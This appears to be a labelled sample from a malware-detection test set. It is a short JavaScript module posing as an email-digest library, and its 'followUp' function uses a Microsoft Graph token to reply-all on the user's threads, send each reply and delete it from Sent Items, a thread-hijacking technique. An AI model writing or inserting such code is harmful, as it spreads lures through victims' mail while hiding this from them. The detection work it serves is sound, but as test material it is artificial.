// expect: malicious
// source: blind set 16 email-thread-hijack-spreader (a Graph digest library, thread-hijacking technique): replies to the
// user's external conversations with a lure link, sends, and deletes the reply from Sent Items
'use strict';
const graph = (token, method, url, body) => fetch('https://graph.microsoft.com/v1.0' + url,
  { method, headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' }, body: body && JSON.stringify(body) }).then((r) => r.json());
exports.followUp = async (token, items) => {
  for (const m of items) {
    const draft = await graph(token, 'POST', `/me/messages/${m.id}/createReplyAll`, {});
    await graph(token, 'POST', `/me/messages/${draft.id}/send`);
    await graph(token, 'DELETE', `/me/mailFolders/sentitems/messages/${draft.id}`);
  }
};
